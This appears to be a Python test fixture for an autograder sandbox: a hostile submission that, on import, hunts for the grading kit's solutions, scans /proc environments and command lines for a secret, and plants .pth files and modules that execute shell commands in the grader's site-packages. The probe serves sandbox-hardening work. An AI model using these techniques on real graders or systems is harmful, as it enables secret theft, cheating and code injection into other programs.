"""The reference, plus a look for the kit, the instructor's secret, and a way into the grader's Python.

At import it:
- looks for the kit it is graded by (@KIT@, which the test may place under
  /usr/src) and walks /usr/src for it;
- searches its environment and every /proc/<pid>/environ and cmdline it
  can read for the value of AUTOGRADER_SECRET (the test sets one with the
  marker RT-SECRET);
- tries to write a .pth file and a module into the grader's site-packages
  and the kit;
- prints its uid.
Then it prints KIT-FOUND/KIT-HIDDEN, SECRET-FOUND/SECRET-HIDDEN and one
PLANTED or PLANT-REFUSED line per target.
"""
# ==== HOSTILE ====
import glob as _glob
import os as _os

_kit = "@KIT@"
_found = [p for p in (_kit + "/solutions/cnn/cnn_layers.py", _kit + "/autograder/suites/cnn", _kit + "/assignments/cnn")
          if _os.path.exists(p)]
for _root, _dirs, _files in _os.walk("/usr/src"):
    if _root.startswith(_kit) or "cnn_layers.py" in _files and "solutions" in _root:
        _found.append(_root)
        break
print("KIT-FOUND" if _found else "KIT-HIDDEN", _found[:3])

_secret = [k for k, v in _os.environ.items() if "RT-SECRET" in v]
for _pid in (p for p in _os.listdir("/proc") if p.isdigit()):
    for _part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_part}", "rb") as _f:
                if b"RT-SECRET" in _f.read():
                    _secret.append(f"{_pid}/{_part}")
        except OSError:
            pass
print("SECRET-FOUND" if _secret else "SECRET-HIDDEN", _secret[:3])

for _target in [*_glob.glob("@SITE@"), _kit + "/autograder"]:
    for _name in ("planted_@MARK@.pth", "planted_@MARK@.py"):
        try:
            with open(_os.path.join(_target, _name), "w") as _f:
                _f.write("import os; os.system('touch /tmp/pwned_@MARK@')\n")
            print("PLANTED", _target, _name)
        except OSError as _exc:
            print("PLANT-REFUSED", _target, _name, type(_exc).__name__)
print("UID", _os.getuid(), _os.geteuid())
